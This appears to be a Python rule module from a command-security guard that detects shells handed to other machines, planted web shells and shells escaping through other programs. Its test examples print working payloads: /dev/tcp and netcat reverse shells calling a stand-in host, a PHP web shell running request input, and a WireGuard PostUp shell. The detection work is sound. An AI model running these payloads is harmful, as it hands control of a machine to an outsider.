"""Shells that a line hands to somebody, or starts where none is expected."""

from __future__ import annotations

from collections.abc import Sequence

from chimera_guard.context import Context
from chimera_guard.effects.hosts import HERE
from chimera_guard.effects.model import Effect
from chimera_guard.effects.origins import is_raw
from chimera_guard.risk import SecurityRisk
from chimera_guard.rules.registry import line_rule, rule

HIGH = SecurityRisk.HIGH
GRANTS = frozenset({"privilege", "service", "weaken", "mount"})  # what a shell then has, and its user had not
AWAY = frozenset({"connect", "remote-change", "remote-read"})  # what is started then runs elsewhere
READS_SETTINGS = frozenset(
    {"exec-script", "exec-program", "install", "service", "mount", "persist", "connect", "remote-read", "remote-change"}
)


@line_rule(
    "shell-handed-over",
    HIGH,
    reason="starts a shell, and connects it with another machine",
    why="Somebody else then types the commands, with your rights.",
    instead="use ssh, which asks who is there",
    match=[
        ("bash -i >&/dev/tcp/x.example/99 0>&1", "network-raw"),
        ("nc -e /bin/sh x.example 99", "network-connects", "execution-escape"),
        ("mkfifo f; sh <f | nc x.example 99 >f", "network-connects", "writes-file", "execution-unread-code"),
    ],
    not_match=[
        "bash -i",
        "ssh x.example",
        "ssh x.example bash",
        "nc x.example 99; bash",
        "mkfifo f; nc x.example 99 <f | ./tool >f",
    ],
)
def shell_handed_over(effects: Sequence[Effect], context: Context) -> Effect | None:
    shells = (e for e in effects if e.kind == "exec-code" and ("interactive" in e.flags or "fifo" in e.taint))
    shell = next(shells, None)
    if shell is None:
        return None
    raw = any(e.scope == "remote" and e.kind in ("write", "append", "read") for e in effects)
    connects = (e for e in effects if e.kind == "connect" and is_raw(e))
    handed = any(e.program in shell.via or "fifo" in shell.taint for e in connects)
    return shell if raw or handed or any(e.kind == "listen" for e in effects) else None


@line_rule(
    "shell-in-code",
    HIGH,
    reason="opens a connection and starts programs, in code that this guard can't follow in full",
    why="This is how a shell is handed to somebody else: code takes its orders from the connection.",
    instead="save it to a file, read it, then run the file",
    match=[
        ("lua -e 'io.popen(socket.connect(\"x.example\", 9):receive())'", "unread-inline-code"),
    ],
    not_match=["julia -e 'run(`$x`)'", "julia -e 's = connect(\"x.example\", 9); println(s)'"],
)
def shell_in_code(effects: Sequence[Effect], context: Context) -> Effect | None:
    connected = {(effect.program, effect.via) for effect in effects if is_raw(effect)}
    unread = (e for e in effects if e.kind == "unknown" and {"language", "capable"} <= e.flags)
    return next((effect for effect in unread if (effect.program, effect.via) in connected), None)


@line_rule(
    "shell-planted",
    HIGH,
    reason="writes {target}, which starts a shell, and then runs a program that may read it",
    why="A file of settings, or of steps, then hands out a shell with the rights of whatever reads it.",
    instead="start the shell itself, if you need one",
    match=[
        ("echo 'PostUp = /bin/sh' > x.conf; wg-quick up ./x.conf", "writes-file", "runs-script", "service-changed"),
    ],
    not_match=[
        "printf '#!/bin/sh\\nls\\n' > run.sh; ./run.sh",
        "echo 'ExecStart=/bin/sh -c ls' > x.service; make",
        "echo SHELL=/bin/bash > .env.example",
    ],
)
def shell_planted(effects: Sequence[Effect], context: Context) -> Effect | None:
    for place, effect in enumerate(effects):
        if "starts-shell" in effect.flags:
            names = (effect.text or "").replace(".", "/").split("/")  # `.tool.rc`, `.config/tool/x`
            later = effects[place + 1 :]
            reads = any(e.kind in READS_SETTINGS or (e.program and e.program in names) for e in later)
            return effect if reads else None
    return None


@rule(
    "page-runs-requests",
    HIGH,
    on="write append",
    reason="writes {target}, a page that runs whatever somebody who asks for it sends along",
    why="Once a web server finds it, anybody who guesses its name can run any program with the server's rights.",
    instead="let the page choose among a few fixed programs, and quote what it hands them",
    match=[
        ("echo '<?php system($_GET[0]); ?>' > public/x.php", "writes-file"),
        "echo '<?php $c = $_POST[\"c\"]; eval($c);' | tee x.php",
    ],
    not_match=[
        "echo '<?php echo $_GET[\"name\"]; ?>' > x.php",
        "echo '<?php system(\"date\"); ?>' > x.php",
        "echo 'never write system($_GET[0])' > notes.md",
    ],
)
def page_runs_requests(effect: Effect, context: Context) -> bool:
    return "runs-requests" in effect.flags


@line_rule(
    "shell-through-program",
    HIGH,
    reason="starts {program} through another program, to take whatever is typed or piped into it",
    why="What is typed there runs with that program's rights, and past every check of single commands.",
    instead="run the one command that is needed",
    match=[("sudo sh", "privilege-root"), "env /bin/sh"],
    not_match=["sh", "docker exec -it web sh", "ssh x.example bash", "sudo ls", "exec zsh -l", "screen bash"],
)
def shell_through_program(effects: Sequence[Effect], context: Context) -> Effect | None:
    programs: dict[str, list[Effect]] = {}
    for effect in effects:
        programs.setdefault(effect.program, []).append(effect)
    judged: dict[tuple[str, ...], tuple[bool, bool]] = {}  # whether wrappers grant something, or lead away
    for effect in effects:
        if effect.kind != "exec-code" or not effect.via or _TYPED & effect.flags != {"interactive"}:
            continue
        if effect.via not in judged:
            around = [e for name in {*effect.via} for e in programs.get(name, ())]
            judged[effect.via] = any(e.kind in GRANTS for e in around), any(map(_away, around))
        grants, away = judged[effect.via]
        if ("exact" in effect.flags or grants) and not away:  # else as people start it: `screen bash`
            return effect
    return None


_TYPED = frozenset({"interactive", "queries", "escape"})  # `sudo -u postgres psql` is typed into as well


def _away(effect: Effect) -> bool:
    """Whether it leads to another machine, or into a container."""
    return effect.kind in AWAY and (effect.text or "").rpartition("@")[2] not in HERE


@line_rule(
    "shell-typed",
    HIGH,
    reason="opens the console of another program, and starts {program} in the next line",
    why="Typed into that console it gives a shell with the rights of the program, past every check.",
    instead="start the shell itself, if you need one",
    match=[("lua\n/bin/sh", "runs-code")],
    not_match=["lua", "bash\n/bin/sh", "lua script.lua; sh"],
)
def shell_typed(effects: Sequence[Effect], context: Context) -> Effect | None:
    console = False
    for effect in effects:
        if effect.kind == "exec-code" and "interactive" in effect.flags:
            if console and "in-console" not in effect.flags:
                return effect
            console = console or ("in-console" in effect.flags and not effect.via)
    return None
